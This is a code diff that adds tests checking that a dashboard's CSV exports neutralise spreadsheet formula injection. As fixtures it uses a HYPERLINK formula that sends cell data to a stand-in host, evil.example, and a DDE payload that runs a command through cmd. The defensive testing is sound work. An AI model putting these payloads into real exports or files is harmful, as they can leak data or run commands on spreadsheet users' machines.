@@ -12,6 +12,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from dashboard import auth, registry
+from dashboard.api.deps import csv_cell
 from dashboard.app import create_app
 from dashboard.settings import Settings
 from footfall_core.contract import (
@@ -393,3 +394,47 @@ def test_camera_health_per_day_and_over_the_range(app):
         boss.get("/api/v1/stores/nope/health", params=dict(start="2026-03-02", end="2026-03-03")).status_code
         == 404
     )
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1+cmd", "'+1+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        (b"=1", "'=1"),
+        ("shop 7", "shop 7"),
+        (-2.5, "-2.5"),
+        (-3, "-3"),
+        (None, ""),
+        (["=a"], '["=a"]'),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(value, cell):
+    assert csv_cell(value) == cell
+
+
+def test_every_csv_export_neutralises_formulas(app):
+    """A store name, a tag and a dead letter's device-controlled topic and reason reach three
+    different exports: each cell comes out with its leading ' (and numbers stay numbers)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with app.state.engine.begin() as conn:
+        registry.save(
+            conn,
+            registry.StoreRecord.model_validate(
+                dict(store=dict(id="s3", name=formula, region="@north", tags=["+mall"]))
+            ),
+        )
+    app.state.storage.dead_letter("footfall/v1/s1/c1/agg", b"-1+1", "=cmd|' /C calc'!A0")
+    boss = client(app, "boss")
+    stores = {r["id"]: r for r in csv.DictReader(io.StringIO(boss.get("/api/v1/stores?format=csv").text))}
+    assert (stores["s3"]["name"], stores["s3"]["region"]) == ("'" + formula, "'@north")
+    assert stores["s3"]["tags"] == '["+mall"]'
+    letters = list(csv.DictReader(io.StringIO(boss.get("/api/v1/dead-letters?format=csv").text)))
+    assert (letters[0]["payload"], letters[0]["reason"]) == ("'-1+1", "'=cmd|' /C calc'!A0")
+    compared = boss.get("/api/v1/compare", params=dict(start="2026-03-02", end="2026-03-08", format="csv"))
+    names = {r["store"]: r["name"] for r in csv.DictReader(io.StringIO(compared.text))}
+    assert names["s3"] == "'" + formula
